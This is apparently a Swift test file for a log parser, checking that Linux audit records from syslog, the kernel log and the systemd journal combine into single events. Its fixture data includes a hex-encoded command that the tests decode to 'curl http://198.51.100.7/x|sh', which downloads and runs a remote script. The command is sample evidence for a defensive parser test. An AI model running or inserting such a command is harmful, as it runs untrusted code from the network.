import Evidence
import Testing

@testable import LogParse

/// Records of one audit event that come by way of another log.
@Suite struct SyslogAuditTests {
  private static let call =
    "arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=1 ppid=900 pid=912 auid=4294967295 uid=53"
    + " gid=53 euid=53 tty=(none) ses=4294967295 comm=\"sh\" exe=\"/usr/bin/dash\" key=\"exec\""
  private static let command =
    "argc=3 a0=\"sh\" a1=\"-c\" a2=6375726C20687474703A2F2F3139382E35312E3130302E372F787C7368"

  private func check(_ event: Event?) {
    #expect(event?.text("command_line") == "sh -c curl http://198.51.100.7/x|sh")
    #expect(event?.text("executable") == "/usr/bin/dash" && event?.integer("pid") == 912)
    #expect(event?.text("host") == "web-1" && event?.dataType == "linux:audit:syscall")
  }

  @Test func fromPluginsOfAuditd() throws {
    let front = "Nov 25 04:20:02 web-1 audispd: node=web-1 type="
    let text = """
      \(front)SYSCALL msg=audit(1764044402.123:78): \(Self.call)
      \(front)SYSCALL msg=audit(1764044402.123:79): arch=c000003e syscall=59 pid=913 comm="id" exe="/usr/bin/id"
      Nov 25 04:20:02 web-1 sshd[77]: Server listening on 0.0.0.0 port 22.
      \(front)EXECVE msg=audit(1764044402.123:78): \(Self.command)
      \(front)CWD msg=audit(1764044402.123:78): cwd="/opt"
      \(front)PATH msg=audit(1764044402.123:78): item=0 name="run.sh" nametype=NORMAL
      \(front)EXECVE msg=audit(1764044402.123:79): argc=1 a0="id"
      \(front)PROCTITLE msg=audit(1764044402.123:78): proctitle=7368
      \(front)USER_LOGIN msg=audit(1764044403.123:80): pid=77 uid=0 msg='op=login acct="ops" exe="/usr/sbin/sshd" res=success'

      """
    let dump = try EventDump(text, path: "messages")
    #expect(dump.format == "linux.syslog" && HostileInputTests.isWhole(dump, text.utf8.count))
    #expect(dump.events.count == 4)
    let whole = dump.events.first { $0.integer("serial") == 78 }
    check(whole)
    #expect(whole?["paths"] == .texts(["/opt/run.sh"]))
    #expect(whole?["types"] == .texts(["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"]))
    #expect(whole?.time == Timestamp(iso8601: "2025-11-25T04:20:02.123Z"))
    #expect(dump.events.first { $0.integer("serial") == 79 }?.text("command_line") == "id")
  }

  @Test func fromTheKernel() throws {
    let front = "Nov 25 04:20:02 web-1 kernel: [  123.456789] audit: type="
    let text = """
      \(front)1300 audit(1764044402.123:78): \(Self.call)
      Nov 25 04:20:02 web-1 kernel: [  123.456790] device eth0 entered promiscuous mode
      \(front)1309 audit(1764044402.123:78): \(Self.command)

      """
    let dump = try EventDump(text, path: "kern.log")
    #expect(dump.events.count == 2)
    check(dump.events.first { $0.integer("serial") == 78 })
  }

  /// journalctl's text: the journal knows the number, the text does not.
  @Test func fromTextOfTheJournal() throws {
    let text = """
      Nov 25 04:20:02 web-1 audit[912]: SYSCALL \(Self.call)
      Nov 25 04:20:02 web-1 audit: EXECVE \(Self.command)
      Nov 25 04:20:02 web-1 audit: PROCTITLE proctitle=7368
      Nov 25 04:20:02 web-1 audit[913]: SYSCALL arch=c000003e syscall=59 pid=913 comm="id" exe="/usr/bin/id"
      Nov 25 04:20:02 web-1 audit: EXECVE argc=1 a0="id"

      """
    for collected in [EventDump.collected, nil] {
      let dump = try EventDump(text, path: "journal.txt", collected: collected)
      #expect(dump.events.count == 2 && dump.events.allSatisfy { $0["serial"] == nil })
      check(dump.events.first)
      #expect((dump.events.first?.time == nil) == (collected == nil))
      #expect(dump.events.last?.text("command_line") == "id" && dump.events.last?.integer("pid") == 913)
    }
  }

  @Test func fromTheJournal() throws {
    func record(_ type: String, _ fields: String, _ serial: Int) -> String {
      let message = "\(type) \(fields)".split(separator: "\"", omittingEmptySubsequences: false)
        .joined(separator: "\\\"")
      return "{\"__REALTIME_TIMESTAMP\":\"1764044402123000\",\"_TRANSPORT\":\"audit\",\"_HOSTNAME\":\"web-1\","
        + "\"_AUDIT_ID\":\"\(serial)\",\"MESSAGE\":\"\(message)\"}\n"
    }
    let text =
      record("SYSCALL", Self.call, 78) + record("SYSCALL", "pid=5 comm=\"x\"", 79) + record("EXECVE", Self.command, 78)
      + record("PROCTITLE", "proctitle=7368", 78)
    let dump = try EventDump(text, path: "journal.json")
    #expect(dump.format == "linux.journal_json" && dump.events.count == 2)
    let whole = dump.events.first { $0.integer("serial") == 78 }
    check(whole)
    #expect(whole?.text("transport") == "audit")
  }

  /// An event of which millions of records come takes no more memory than another.
  @Test func manyRecords() throws {
    let front = "Nov 25 04:20:02 web-1 audispd: type=PATH msg=audit(1764044402.123:78): item=0 name="
    let text = (0..<2000).map { "\(front)\"/tmp/\(String(repeating: "x", count: 80))\($0)\"\n" }.joined()
    let dump = try EventDump(text, path: "messages")
    #expect(dump.events.count == 1 && (dump.events.first?.text("text")?.utf8.count ?? 0) <= 1 << 16)
    let open = (0..<300).map { "Nov 25 04:20:02 web-1 audispd: type=PATH msg=audit(1764044402.123:\($0)): item=0\n" }
    #expect(try EventDump(open.joined(), path: "messages").events.count == 300)
  }
}
